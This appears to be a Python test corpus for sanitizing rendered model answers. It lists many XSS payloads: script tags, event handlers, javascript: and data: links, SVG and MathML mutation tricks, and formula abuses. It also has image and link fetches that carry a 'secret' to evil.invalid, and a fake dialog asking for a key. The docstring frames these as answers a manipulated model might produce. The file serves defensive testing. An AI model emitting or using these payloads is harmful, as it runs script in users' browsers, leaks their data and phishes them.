"""Answers that a model could be talked into: each tries to run something, or to fetch something without being asked.

What runs would set `window.ran` or open a dialog; what fetches would ask the host evil.invalid.
"""

RUN = "window.ran=1;alert(1)"
PLACE = "http://evil.invalid/"
NESTED = "<b>" * 300 + f"<img src=x onerror={RUN}>" + "</b>" * 300

CORPUS: dict[str, str] = {
    # scripts
    "script": f"<script>{RUN}</script>",
    "script in a paragraph": f"Hello <script>{RUN}</script> world",
    "script from elsewhere": f'<script src="{PLACE}a.js"></script>',
    "script of a module": f'<script type="module">import "{PLACE}m.js"</script>',
    "script in capitals": f"<ScRiPt>{RUN}</sCrIpT>",
    "script with a slash": f"<script/x>{RUN}</script/x>",
    "script within a script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script never closed": f"<script>{RUN}",
    "script in a list": f"- one\n- <script>{RUN}</script>\n",
    "script in a cell": f"| a | b |\n|---|---|\n| <script>{RUN}</script> | x |\n",
    "script in a heading": f"# <script>{RUN}</script>",
    "script in a quotation": f"> <script>{RUN}</script>",
    "script in bold": f"**<script>{RUN}</script>**",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "template": f"<template><script>{RUN}</script></template>",
    # handlers
    "onerror": f"<img src=x onerror={RUN}>",
    "onerror, quoted": f'<img src="x" onerror="{RUN}">',
    "onerror, broken quotes": f'<img """><script>{RUN}</script>">',
    "onerror, line breaks": f"<img\nsrc=x\nonerror\n=\n{RUN}\n>",
    "onerror, entity": "<img src=x onerror=&#119;indow.ran=1>",
    "onload": f'<body onload="{RUN}">',
    "ontoggle": f"<details open ontoggle={RUN}>x</details>",
    "onfocus": f"<input autofocus onfocus={RUN}>",
    "onanimationstart": (
        f"<style>@keyframes k{{}}</style><b style='animation:k 1s' onanimationstart='{RUN}'>x</b>"
    ),
    "onpointerenter": f"<div onpointerenter={RUN} style='position:fixed;inset:0'>x</div>",
    "onbegin of SVG": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "onload of SVG": f"<svg onload={RUN}>",
    "popover": f"<button popovertarget=p>x</button><p popover id=p onbeforetoggle={RUN}>y</p>",
    # addresses
    "javascript: link": f"[click](javascript:{RUN})",
    "javascript: in capitals": f"[click](JaVaScRiPt:{RUN})",
    "javascript: with a tab": f'<a href="java\tscript:{RUN}">click</a>',
    "javascript: with entities": f'<a href="&#106;avascript&colon;{RUN}">click</a>',
    "javascript: as a reference": f"[click][r]\n\n[r]: javascript:{RUN}",
    "javascript: autolink": f"<javascript:{RUN}>",
    "javascript: behind a space": f'<a href=" javascript:{RUN}">click</a>',
    "data: link": "[click](data:text/html,<script>window.opener.ran=1</script>)",
    "data: HTML in base64": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript: link": "[click](vbscript:msgbox(1))",
    "blob: link": "[click](blob:http://evil.invalid/1)",
    "title that breaks out": f'[x](http://a.invalid/ "\\"onmouseover={RUN}")',
    "address that breaks out": f'[x](http://a.invalid/"onmouseover="{RUN})',
    "language that breaks out": f'```"><img src=x onerror={RUN}>\ncode\n```',
    "code that is HTML": f"```html\n<script>{RUN}</script><img src={PLACE}i.png>\n```",
    "inline code that is HTML": f"`<img src=x onerror={RUN}>`",
    # what fetches
    "image": f"![secret]({PLACE}i.png?q=secret)",
    "image as a reference": f"![secret][i]\n\n[i]: {PLACE}r.png",
    "image of HTML": f'<img src="{PLACE}h.png">',
    "image of this server": "![x](/slots)",
    "image without a scheme": "![x](//evil.invalid/s.png)",
    "image, srcset": f'<img srcset="{PLACE}s.png 1x">',
    "image, lazy": f'<img loading="lazy" src="{PLACE}l.png">',
    "image in a link": f"[![x]({PLACE}b.png)](http://a.invalid/)",
    "picture": f'<picture><source srcset="{PLACE}p.png"><img src="{PLACE}q.png"></picture>',
    "style": f"<style>body{{background:url({PLACE}c.png)}} *{{display:none}}</style>",
    "style that imports": f'<style>@import "{PLACE}c.css";</style>',
    "style of an element": f'<p style="background-image:url({PLACE}p.png);position:fixed;inset:0">x</p>',
    "link": f'<link rel="stylesheet" href="{PLACE}l.css"><link rel="prefetch" href="{PLACE}p">',
    "dns-prefetch": '<link rel="dns-prefetch" href="//evil.invalid"><link rel="preconnect" href="//evil.invalid">',
    "video": f'<video src="{PLACE}v.mp4" poster="{PLACE}v.png" autoplay></video>',
    "audio": f'<audio src="{PLACE}a.mp3" autoplay></audio><bgsound src="{PLACE}b.mid">',
    "background": f'<table background="{PLACE}t.png"><tr><td background="{PLACE}d.png">x</table>',
    "iframe": f'<iframe src="{PLACE}f"></iframe>',
    "iframe, srcdoc": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "iframe of javascript:": f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "object": f'<object data="{PLACE}o.swf"></object><embed src="{PLACE}e.swf"><applet code="x"></applet>',
    "portal and fencedframe": f'<portal src="{PLACE}p"></portal><fencedframe src="{PLACE}f"></fencedframe>',
    "ping": f'<a href="http://a.invalid/" ping="{PLACE}ping">x</a>',
    # what changes the page
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={PLACE}r">',
    "meta refresh of javascript:": f'<meta http-equiv="refresh" content="0;javascript:{RUN}">',
    "base": f'<base href="{PLACE}">[x](relative)',
    "form": f'<form action="{PLACE}f"><input name=q><button>Send</button></form>',
    "form of a button": f'<button formaction="javascript:{RUN}" form=f>x</button><form id=f></form>',
    "names of the page": '<a id="app"></a><img name="getElementById"><form id="document" name="body">',
    "dialog": "<dialog open style='position:fixed;inset:0'>Your session ended: give your key</dialog>",
    "frame of the whole": "</div></main></body></html><frameset><frame src='http://evil.invalid/f'>",
    "end of everything": f"</textarea></title></style></script>--><img src=x onerror={RUN}>",
    # other languages
    "SVG with a script": f"<svg><script>{RUN}</script></svg>",
    "SVG that uses": f'<svg><use href="{PLACE}s.svg#x"></use></svg>',
    "SVG with an image": f'<svg><image href="{PLACE}i.png" xlink:href="{PLACE}j.png"/></svg>',
    "SVG with HTML": f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    "SVG that links": f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>',
    "SVG that sets": f'<svg><a><set attributeName=href to="javascript:{RUN}"/><text y=9>x</text></a></svg>',
    "SVG with style": f"<svg><style><img src=x onerror={RUN}></style></svg>",
    "SVG filter": f'<svg><filter id=f><feImage href="{PLACE}f.png"/></filter></svg>',
    "MathML that links": f'<math href="javascript:{RUN}">x</math>',
    "MathML, mutated": f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={RUN}>'>",
    "MathML with HTML": f'<math><annotation-xml encoding="text/html"><img src=x onerror={RUN}></annotation-xml></math>',
    "MathML action": (
        f'<math><maction actiontype="statusline#{PLACE}" xlink:href="javascript:{RUN}">x</maction></math>'
    ),
    "mutated form": f'<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="{RUN}">',
    "CDATA": f"<svg><![CDATA[<img src=x onerror={RUN}>]]></svg>",
    "comment": f"<!--><img src=x onerror={RUN}>-->",
    "comment of a browser": f"<!--[if true]><script>{RUN}</script><![endif]-->",
    "instruction": f'<?xml-stylesheet href="{PLACE}x.xsl"?><?php x ?><img src=x onerror={RUN}>',
    # formulas
    "formula with a link": f"$\\href{{javascript:{RUN}}}{{x}}$",
    "formula with an address": f"$\\url{{javascript:{RUN}}}$",
    "formula with an image": f"$$\\includegraphics[height=1em]{{{PLACE}k.png}}$$",
    "formula with a class": "$\\htmlClass{hidden}{x}$ $\\htmlId{app}{x}$",
    "formula with a style": f"$\\htmlStyle{{background:url({PLACE}k.png)}}{{x}}$",
    "formula with data": f"$\\htmlData{{x=y onerror={RUN}}}{{x}}$",
    "formula with HTML": f"$\\text{{<img src=x onerror={RUN}>}}$",
    "formula that is wrong": f"$\\frac{{<img src=x onerror={RUN}>$",
    "formula that never ends": "$$\\def\\x{\\x\\x}\\x$$",
    "formula that is huge": "$$\\rule{99999em}{99999em}$$",
    # broken Markdown
    "fence never closed": f"```js\n<img src=x onerror={RUN}>\n</code></pre><script>{RUN}</script>",
    "link never closed": f"[x](<javascript:{RUN}",
    "image never closed": f"![x]({PLACE}never.png",
    "tag never closed": f"<img src=x onerror='{RUN}'",
    "reference twice": f"[a][a]\n\n[a]: http://a.invalid/\n[a]: javascript:{RUN}",
    "link in a link": f"[a [b](javascript:{RUN}) c](http://a.invalid/)",
    "address in pointed brackets": f"[x](<javascript:{RUN}>)",
    "nested deeply": NESTED,
    "quotations, deep": "> " * 500 + f"<script>{RUN}</script>",
    "lists, deep": "".join("  " * n + "- x\n" for n in range(100)),
    "brackets, many": "[" * 3000 + "](" * 50,
    "stars, many": "*_" * 3000,
    "zero bytes": f"<scr\x00ipt>{RUN}</script><img src=x onerror\x00={RUN}>",
    "letters that turn round": f"[safe\u202egpj.exe](javascript:{RUN})",
    "footnote": f"[^1]\n\n[^1]: <img src=x onerror={RUN}>",
    "task list": f"- [x] <img src=x onerror={RUN}>\n- [ ] <script>{RUN}</script>",
}

# Split while they stream, at each letter: half of a tag, a link, a fence, a formula.
SPLIT: dict[str, str] = {
    name: CORPUS[name]
    for name in (
        "script", "script in a cell", "onerror", "onerror, quoted", "javascript: link", "javascript: as a reference",
        "image", "image of HTML", "style", "iframe, srcdoc", "meta refresh", "base", "SVG with an image",
        "MathML, mutated", "comment", "formula with a link", "formula with an image", "formula with HTML",
        "language that breaks out", "fence never closed", "noscript", "task list",
    )
}  # fmt: skip
